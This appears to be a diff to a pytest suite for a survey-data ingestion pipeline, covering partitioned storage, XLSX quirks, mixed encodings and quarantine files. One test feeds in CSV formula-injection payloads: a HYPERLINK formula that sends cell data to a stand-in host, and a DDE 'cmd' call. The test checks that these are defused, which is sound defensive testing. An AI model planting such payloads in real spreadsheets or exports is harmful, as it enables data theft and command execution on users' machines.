@@ -530,10 +530,10 @@ def test_ingest_writes_month_partitions_quarantine_and_log(tmp_path, root):
     path = write_csv(tmp_path / "oct.csv", RU, rows)
     rec = ingest.ingest_file(path, table="responses", data_root=root, now=NOW)
     assert (rec.appended.added, rec.appended.replaced, rec.appended.unchanged) == (2, 0, 0)
-    parts = sorted(p.relative_to(root).as_posix() for p in root.rglob("*.parquet"))
-    assert parts == ["processed/dealers/part-0.parquet",
-                     "processed/responses/month=2026-09/part-0.parquet",
-                     "processed/responses/month=2026-10/part-0.parquet"]
+    parts = sorted({p.parent.relative_to(root).as_posix() for p in root.rglob("*.parquet")})
+    assert parts == ["processed/dealers",
+                     "processed/responses/month=2026-09",
+                     "processed/responses/month=2026-10"]
     back = store.load("responses", data_dir=root / "processed")
     assert back["response_id"].tolist() == ["R1", "R2"]
     assert back["month"].tolist() == ["2026-09", "2026-10"]  # the partition comes back too
@@ -599,7 +599,8 @@ def test_the_last_ingest_wins_even_across_months(tmp_path, root):
     back = store.load("cases", data_dir=root / "processed").set_index("case_id")
     assert back.index.tolist() == ["C1", "C2", "C3"]  # C1 left the September partition
     assert back.loc["C1", "first_contact_at"] == pd.Timestamp("2026-10-01 12:00")
-    assert not (root / "processed" / "cases" / "month=2026-09").exists()
+    files, _ = store.data_files("cases", data_dir=root / "processed", months=["2026-09"])
+    assert not files  # the table's current version has no September file
 
 
 def test_an_optional_column_arriving_later_is_added_to_every_partition(tmp_path, root):
@@ -673,8 +674,8 @@ def test_cli_errors_are_messages_not_tracebacks(tmp_path, root, capsys):
 
 
 # --- the demo round trip ------------------------------------------------------------------------
-def _same_units(frame):
-    return frame.apply(lambda s: s.astype("datetime64[ns]") if s.dtype.kind == "M" else s)
+def _same_units(frame):  # Delta Lake keeps microseconds
+    return frame.apply(lambda s: s.astype("datetime64[us]") if s.dtype.kind == "M" else s)
 
 
 def test_demo_exports_are_the_same_files_for_a_seed(tmp_path):
@@ -849,3 +850,128 @@ def test_funnel_report_rows_that_do_not_add_up_are_quarantined(tmp_path):
     assert got[4] == "reached: reached more than attempted ('85')"
     assert got[5] == "answered: answered more than reached ('41')"
     assert got[6] == "channel: not one of phone, sms, email, messenger ('Web form')"
+
+
+# --- exports read whole (issue 19) --------------------------------------------------------------
+def _set_dimension(path, ref):
+    """Rewrite the sheet's <dimension> tag, as exporters that never update it leave it."""
+    import re
+    import zipfile
+
+    tampered = path.with_name(f"stale-{ref.replace(':', '')}-{path.name}")
+    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(tampered, "w",
+                                                       zipfile.ZIP_DEFLATED) as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            if item.filename.startswith("xl/worksheets/sheet"):
+                data, n = re.subn(rb'<dimension ref="[^"]*"\s*/>',
+                                  f'<dimension ref="{ref}"/>'.encode(), data)
+                assert n == 1
+            zout.writestr(item, data)
+    return tampered
+
+
+@pytest.mark.parametrize("ref", ["A1:O4", "A1"])
+def test_an_xlsx_with_a_stale_size_tag_is_read_whole(tmp_path, ref):
+    rows = [RU] + [row(f"R{i}", nps=str(i % 11)) for i in range(10)]
+    path = _set_dimension(write_xlsx(tmp_path / "ten.xlsx", rows), ref)
+    assert len(list(openpyxl.load_workbook(path, read_only=True).active.iter_rows())) < 5
+    r = read(path)
+    assert r.n_read == 10 and ids(r) == [f"R{i}" for i in range(10)]
+    assert r.accepted["nps"].tolist() == [i % 11 for i in range(10)]
+    check_invariant(r)
+
+
+def test_xlsx_formulas_without_a_saved_value_are_quarantined_with_that_reason(tmp_path):
+    rows = [RU, row("R1", comment="=1+1"), row("R2", nps="=4+5"), row("R3")]
+    r = read(write_xlsx(tmp_path / "formulas.xlsx", rows))  # openpyxl saves no values
+    assert ids(r) == ["R3"] and r.n_read == 3
+    assert problems(r) == [
+        (2, f"comment: {ingest.FORMULA_RULE} ('=1+1')"),
+        (3, f"nps: {ingest.FORMULA_RULE} ('=4+5')"),
+    ]
+    assert r.quarantined["Оценка"].tolist() == ["9", "=4+5"]
+    assert r.reasons.set_index("column")["reason"].to_dict() == {
+        "comment": ingest.FORMULA_RULE, "nps": ingest.FORMULA_RULE}
+    check_invariant(r)
+
+
+def test_xlsx_formulas_with_a_saved_value_keep_it(tmp_path):
+    import re
+    import zipfile
+
+    path = write_xlsx(tmp_path / "cached.xlsx", [RU, row("R1", nps="=4+5")])
+    cached = tmp_path / "cached-values.xlsx"
+    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(cached, "w") as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            if item.filename.startswith("xl/worksheets/sheet"):  # as Excel saves it
+                data = re.sub(rb"<f>4\+5</f><v\s*/>", b"<f>4+5</f><v>9</v>", data)
+            zout.writestr(item, data)
+    r = read(cached)
+    assert ids(r) == ["R1"] and r.accepted["nps"].tolist() == [9]
+
+
+def test_a_csv_mixing_utf8_and_cp1251_lines_is_read_line_by_line(tmp_path):
+    comments = ["Всё отлично", "Долго ждал", "Спасибо", "Грязно в салоне", "Вежливый мастер"]
+    buf = io.BytesIO()
+    buf.write((";".join(RU) + "\r\n").encode("utf-8"))
+    for i, text in enumerate(comments):
+        line = ";".join(row(f"R{i}", comment=text)) + "\r\n"
+        buf.write(line.encode("utf-8" if i < 3 else "cp1251"))  # two exports pasted together
+    path = tmp_path / "mixed.csv"
+    path.write_bytes(buf.getvalue())
+    r = read(path)
+    assert r.accepted["comment"].tolist() == comments  # never mojibake
+    assert r.encoding == "utf-8+cp1251"
+    assert r.notes == ("mixed encodings: lines 5-6 read as Windows-1251, lines 1-4 as UTF-8 "
+                       "(each line in its own; check them)",)
+    assert "note: mixed encodings" in r.summary()
+
+
+def test_a_line_neither_utf8_nor_cp1251_is_named(tmp_path):
+    path = tmp_path / "bad.csv"
+    path.write_bytes((";".join(RU) + "\r\n").encode("utf-8")
+                     + ";".join(row("R1", comment="Всё")).encode("utf-8") + b"\r\nR2;\x98\r\n")
+    with pytest.raises(IngestError, match=r"bad\.csv: byte \d+ is neither UTF-8 nor "
+                                          r"Windows-1251 text \(line 3\)"):
+        read(path)
+
+
+def test_quarantine_files_are_one_per_source_path_and_defused(tmp_path, root):
+    a, b = tmp_path / "a", tmp_path / "b"
+    a.mkdir()
+    b.mkdir()
+    evil = '=HYPERLINK("http://x.example/?"&A1;"click")'
+    bad_a = write_csv(a / "export.csv", RU, [row("R1", nps="11", comment=evil)])
+    bad_b = write_csv(b / "export.csv", RU, [row("R2", nps="12", comment="=cmd|'/c calc'!A1")])
+    qa = ingest.ingest_file(bad_a, table="responses", data_root=root, now=NOW).quarantine_file
+    qb = ingest.ingest_file(bad_b, table="responses", data_root=root, now=NOW).quarantine_file
+    assert qa == root / "quarantine" / "export.csv.csv" and qb != qa and qb.exists()
+    # b's export fixed: only b's quarantine goes; a's stays, as the summary says
+    write_csv(bad_b, RU, [row("R2", nps="10")])
+    assert ingest.ingest_file(bad_b, table="responses", data_root=root,
+                              now=NOW).quarantine_file is None
+    assert qa.exists() and not qb.exists()
+    summary = ingest.quarantine_summary(root / "processed").set_index("quarantine_file")
+    assert summary.loc["quarantine/export.csv.csv", "quarantined"] == 1
+    text = qa.read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in text and ";=" not in text  # Excel shows it, does not run it
+    # sent back corrected, the quarantine file reads as the export did
+    (tmp_path / "fixed.csv").write_text(text.replace(";11;", ";10;"), encoding="utf-8-sig")
+    back = ingest.ingest_file(tmp_path / "fixed.csv", table="responses", data_root=root,
+                              now=NOW)
+    assert back.result.accepted["comment"].tolist() == [evil]
+
+
+def test_an_ingest_is_one_commit_recorded_in_the_history(tmp_path, root):
+    path = write_csv(tmp_path / "oct.csv", RU, [row("R1"), row("R2", nps="11")])
+    rec = ingest.ingest_file(path, table="responses", data_root=root, now=NOW)
+    assert rec.appended.version == 0
+    again = ingest.ingest_file(path, table="responses", data_root=root, now=NOW)
+    assert again.appended.version == 0  # nothing changed, nothing committed
+    history = store.history("responses", data_dir=root / "processed")
+    assert history[["version", "file", "read", "quarantined", "rows_added"]].values.tolist() == [
+        [0, "oct.csv", 2, 1, 1]]
+    log = ingest.ingest_log(root / "processed")
+    assert log.loc[log["table"] == "responses", "version"].tolist() == [0, 0]
